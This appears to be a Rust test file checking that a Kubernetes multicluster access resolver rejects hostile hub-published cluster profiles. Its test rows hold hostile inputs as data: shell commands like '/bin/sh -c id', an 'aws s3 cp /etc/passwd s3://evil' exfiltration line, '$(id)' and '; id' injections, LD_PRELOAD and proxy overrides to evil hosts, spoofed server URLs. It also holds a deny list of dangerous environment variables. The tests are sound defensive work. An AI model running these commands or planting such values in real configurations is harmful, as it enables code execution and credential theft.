//! Hostile hubs: what they publish is refused.

use super::*;

/// Tests what a hostile hub may try, each with the rule that forbids it.
#[test]
fn hostile_hub_obtains_nothing() {
    let at = |name: &str, server: &str| json!([{"name": name, "cluster": {"server": server}}]);
    let with = |field: &str, value: Value| json!([{"name": "eks", "cluster": {"server": EKS, field: value}}]);
    let extension = |name: &str, value: Value| {
        let name = format!("clusterprofiles.multicluster.x-k8s.io/exec/{name}");
        json!([{"name": "corp", "cluster": {"server": "https://corp.example", "extensions": [{"name": name, "extension": value}]}}])
    };
    let none = json!({});
    let exec = |command: &str, args: &str| json!({"auth.exec.command": command, "auth.exec.args": args});
    let rows: Vec<(&str, Value, Value)> = vec![
        ("command", at("eks", EKS), exec("/bin/sh", "-c,touch /tmp/x")),
        ("command", at("eks", EKS), exec("sh", "-c,id")),
        ("command", at("eks", EKS), exec("/tmp/aws", "eks,get-token")),
        ("command", at("eks", EKS), exec("../aws", "eks,get-token")),
        ("command", at("eks", EKS), exec("aws\n", "")),
        (
            "command",
            at("x", "https://corp.example"),
            exec("my-plugin", "token,--cluster,-x"),
        ),
        (
            "command",
            at("x", "https://corp.example"),
            exec("my-plugin", "token,--cluster,a,--more"),
        ),
        (
            "arguments",
            at("eks", EKS),
            exec("aws", "s3,cp,/etc/passwd,s3://evil"),
        ),
        (
            "arguments",
            at("eks", EKS),
            exec("aws", "eks,get-token,--endpoint-url,https://evil.example"),
        ),
        (
            "arguments",
            at("eks", EKS),
            exec("aws", "eks,get-token,--profile,root"),
        ),
        ("arguments", at("eks", EKS), json!({"region": "eu-west-1; id"})),
        (
            "arguments",
            at("eks", EKS),
            json!({"cluster.name": "--endpoint-url=https://evil.example"}),
        ),
        ("arguments", at("eks", EKS), json!({"cluster.name": "../../etc"})),
        ("arguments", at("eks", EKS), json!({"cluster.name": "a\u{1b}[2J"})),
        (
            "arguments",
            at("gke", "https://a.gke.goog"),
            exec("gke-gcloud-auth-plugin", "--x"),
        ),
        (
            "arguments",
            at("gke", "https://a.gke.goog"),
            json!({"auth.exec.apiVersion": "v9"}),
        ),
        (
            "arguments",
            at("aks", "https://a.azmk8s.io"),
            exec(
                "kubelogin",
                "get-token,--server-id,00000003-0000-0000-c000-000000000000",
            ),
        ),
        (
            "arguments",
            at("aks", "https://a.azmk8s.io"),
            json!({"tenant.id": "$(id)"}),
        ),
        (
            "arguments",
            extension("additional-args", json!(["a\u{0}b"])),
            none.clone(),
        ),
        (
            "environment",
            extension("additional-envs", json!({"LD_PRELOAD": "/tmp/x.so"})),
            none.clone(),
        ),
        (
            "environment",
            extension("additional-envs", json!({"path": "/tmp"})),
            none.clone(),
        ),
        (
            "environment",
            extension("additional-envs", json!({"https_proxy": "http://evil"})),
            none.clone(),
        ),
        (
            "environment",
            extension("additional-envs", json!({"AWS_ENDPOINT_URL_STS": "http://evil"})),
            none.clone(),
        ),
        (
            "server",
            at("eks", "https://[::1%25.eks.amazonaws.com]"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "server",
            at("eks", "https://evil!.eks.amazonaws.com"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "server",
            at("eks", "https://m\u{fc}nchen.eks.amazonaws.com"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "environment",
            extension("additional-envs", json!({"A=B": "x"})),
            none.clone(),
        ),
        (
            "malformed",
            extension("additional-envs", json!([1])),
            none.clone(),
        ),
        (
            "malformed",
            extension("additional-args", json!("x")),
            none.clone(),
        ),
        (
            "size",
            extension("additional-args", json!(vec!["x"; 65])),
            none.clone(),
        ),
        (
            "http",
            at("eks", "http://A1.gr7.eu-west-1.eks.amazonaws.com"),
            none.clone(),
        ),
        (
            "http",
            at("eks", "HTTP://a.eks.amazonaws.com"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "server",
            at("eks", "A1.gr7.eu-west-1.eks.amazonaws.com"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "server",
            at("eks", "file:///etc/passwd"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "server",
            at("eks", "https://a.eks.amazonaws.com@evil.example"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "server",
            at("eks", "https://evil.example\\.eks.amazonaws.com"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "server",
            at("eks", "https://evil.example/\r\nx: y"),
            json!({"region": "eu-west-1"}),
        ),
        ("server", with("tls-server-name", json!("a b")), none.clone()),
        (
            "host",
            at("eks", "https://evil.example"),
            json!({"region": "eu-west-1"}),
        ),
        (
            "host",
            at("eks", "https://evil.example?.eks.amazonaws.com/")
                .as_array()
                .map(|_| at("eks", "https://eks.amazonaws.com.evil.example"))
                .unwrap(),
            json!({"region": "eu-west-1"}),
        ),
        (
            "host",
            at("eks", "https://10.0.0.1"),
            json!({"region": "eu-west-1"}),
        ),
        ("host", at("gke", "https://34.1.2.3"), none.clone()),
        ("host", at("gke", EKS), none.clone()),
        ("host", at("corp", "https://elsewhere.example"), none.clone()),
        (
            "insecure",
            with("insecure-skip-tls-verify", json!(true)),
            none.clone(),
        ),
        (
            "insecure",
            with("insecure-skip-tls-verify", json!("true")),
            none.clone(),
        ),
        (
            "proxy",
            with("proxy-url", json!("http://evil.example:3128")),
            none.clone(),
        ),
        (
            "ca-path",
            with("certificate-authority", json!("/etc/passwd")),
            none.clone(),
        ),
        (
            "ca-path",
            with("certificate-authority", json!("../../x")),
            none.clone(),
        ),
        (
            "ca",
            with("certificate-authority-data", json!("%%%")),
            none.clone(),
        ),
        (
            "ca",
            with("certificate-authority-data", json!(base64("not a certificate"))),
            none.clone(),
        ),
        (
            "size",
            with("certificate-authority-data", json!("A".repeat(300_000))),
            none.clone(),
        ),
        (
            "size",
            at("eks", &format!("https://{}.eks.amazonaws.com", "a".repeat(3000))),
            none.clone(),
        ),
        ("size", json!([{"name": "x".repeat(1_100_000)}]), none.clone()),
        ("size", json!(vec![json!({"name": "eks"}); 101]), none.clone()),
        ("malformed", json!({"name": "eks"}), none.clone()),
        ("malformed", json!(["eks"]), none.clone()),
        (
            "malformed",
            json!([{"name": "eks", "cluster": "https://x"}]),
            none.clone(),
        ),
        (
            "malformed",
            json!([{"name": "eks", "cluster": {"server": ["https://x"]}}]),
            none.clone(),
        ),
    ];
    // Variables that make a tool run other programs, read or write files, or connect elsewhere, by tool.
    let variables = [
        "CLOUDSDK_PYTHON_ARGS",
        "CLOUDSDK_PYTHON_SITEPACKAGES",
        "CLOUDSDK_GSUTIL_PYTHON",
        "CLOUDSDK_CONFIG",
        "CLOUDSDK_PROXY_ADDRESS",
        "CLOUDSDK_CORE_CUSTOM_CA_CERTS_FILE",
        "CLOUDSDK_AUTH_ACCESS_TOKEN_FILE",
        "AZURE_EXTENSION_DIR",
        "AZURE_FEDERATED_TOKEN_FILE",
        "AWS_PAGER",
        "AWS_DATA_PATH",
        "AWS_PROFILE",
        "AWS_CONTAINER_CREDENTIALS_FULL_URI",
        "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE",
        "AWS_WEB_IDENTITY_TOKEN_FILE",
        "SSLKEYLOGFILE",
        "HOSTALIASES",
        "LESSOPEN",
        "SSH_ASKPASS",
        "_JAVA_OPTIONS",
        "KRB5_CONFIG",
        "XDG_DATA_HOME",
        "ZDOTDIR",
        "LUA_INIT",
        "RES_OPTIONS",
        "LOCALDOMAIN",
        "USERPROFILE",
        "CURL_HOME",
        "VAULT_ADDR",
        "OIDC_ISSUER_URL",
        "ERL_FLAGS",
        "NLSPATH",
        "NETRC",
        "VIMINIT",
        "MAKEFLAGS",
        "AWS_ACCESS_KEY_ID",
        "CLOUDSDK_AUTH_ACCESS_TOKEN",
        "ANYTHING_ELSE",
    ];
    let with_variable = |name: &str| extension("additional-envs", json!({ name: "x" }));
    let rows = rows
        .into_iter()
        .chain(variables.map(|name| ("environment", with_variable(name), none.clone())));
    let resolver = resolver(&["corp.example"], &["my-plugin token --cluster *"]);
    for (rule, providers, properties) in rows {
        let Resolution::Skip(skip) = resolved(&resolver, &record(&providers, &properties)) else {
            panic!("{rule}: {providers:.200} {properties} gives access");
        };
        assert_eq!(skip.reason, Reason::Unresolved, "{}", skip.message);
        assert!(
            skip.message.contains(&format!("(rule {rule:?})")),
            "{rule}: {}",
            skip.message
        );
        assert!(!skip.message.chars().any(char::is_control), "{}", skip.message);
        assert!(skip.message.len() < 1500, "{}", skip.message);
    }
}

/// Tests that a record is checked again when it is used.
#[test]
fn forged_record_is_checked_like_a_published_one() {
    let resolver = resolver(&[], &[]);
    for (rule, access) in [
        (
            "command",
            json!({"provider": "eks", "server": EKS, "plugin": {"command": "/bin/sh", "args": ["-c", "id"]}}),
        ),
        ("command", json!({"provider": "unknown", "server": EKS})),
        (
            "arguments",
            json!({"provider": "eks", "server": EKS, "plugin": {"command": "aws", "args": ["s3", "ls"]}}),
        ),
        (
            "arguments",
            json!({"provider": "eks", "server": EKS, "plugin": {"command": "aws", "args": ["eks", "get-token"]}}),
        ),
        (
            "host",
            json!({"provider": "eks", "server": "https://evil.example", "user": "hub"}),
        ),
        (
            "http",
            json!({"provider": "eks", "server": "http://hub.example", "user": "hub"}),
        ),
    ] {
        let access: Access<'static> = serde_json::from_str::<Access<'_>>(&access.to_string())
            .unwrap()
            .into_owned();
        let error = resolver.connection(&access, "prod").unwrap_err();
        assert_eq!(error.reason, Reason::Unresolved);
        assert!(error.message.contains(&format!("(rule {rule:?})")), "{error}");
    }
}

/// Tests that a hub that can also forge DNS answers does not get a token.
#[test]
fn hub_cannot_change_verification_of_cloud_hosts() {
    let made = |name: &str, server: &str, allow: &[&str]| {
        let cluster = json!({"server": server, "tls-server-name": "evil.example", "certificate-authority-data": base64(&pem())});
        let resolver = resolver(allow, &[]);
        let properties = json!({"region": "eu-west-1"});
        let access = access(
            &resolver,
            &json!([{"name": name, "cluster": cluster}]),
            &properties,
        );
        let made = resolver.connection(&access, "prod").unwrap().cluster;
        (
            made.tls_server_name.is_some(),
            made.certificate_authority_data.is_some(),
        )
    };
    assert_eq!(made("eks", EKS, &[]), (false, true));
    assert_eq!(made("aks", "https://n.azmk8s.io", &[]), (false, true));
    for host in [
        "a.gke.goog",
        "connectgateway.googleapis.com",
        "us-connectgateway.googleapis.com",
    ] {
        assert_eq!(
            made("gke", &format!("https://{host}"), &[]),
            (false, false),
            "{host}"
        );
    }
    // The certificate at a cluster's own address is signed by its own authority.
    assert_eq!(made("gke", "https://10.1.2.3", &["10.1.2.3"]), (false, true));
    assert_eq!(
        made("corp", "https://corp.example", &["corp.example"]),
        (true, true)
    );
}

/// Tests that the command line in the remedy, if copied, allows nothing beyond that command.
#[test]
fn suggested_command_line_allows_nothing_else() {
    for args in ["token,*", "token,a b"] {
        let providers = json!([{"name": "mine", "cluster": {"server": "https://corp.example"}}]);
        let exec = json!({"auth.exec.command": "my-plugin", "auth.exec.args": args});
        let Resolution::Skip(skip) = resolved(&resolver(&["corp.example"], &[]), &record(&providers, &exec))
        else {
            panic!("a command");
        };
        assert!(!skip.message.contains("allowedCommands"), "{}", skip.message);
        assert!(skip.message.contains("name a provider"), "{}", skip.message);
    }
}
